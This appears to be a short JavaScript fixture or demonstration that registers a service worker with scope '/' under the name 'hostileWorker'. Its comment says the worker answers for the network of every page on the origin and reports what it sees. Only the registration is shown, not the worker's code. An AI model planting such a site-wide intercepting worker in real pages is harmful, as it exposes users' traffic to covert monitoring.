// A service worker of the page: it answers for the network of every page of this origin, and tells what it was asked.
(() => {
  window.hostileWorker = navigator.serviceWorker
    .register("/worker.js", { scope: "/" })
    .then(() => navigator.serviceWorker.ready)
    .then(() => true);
})();
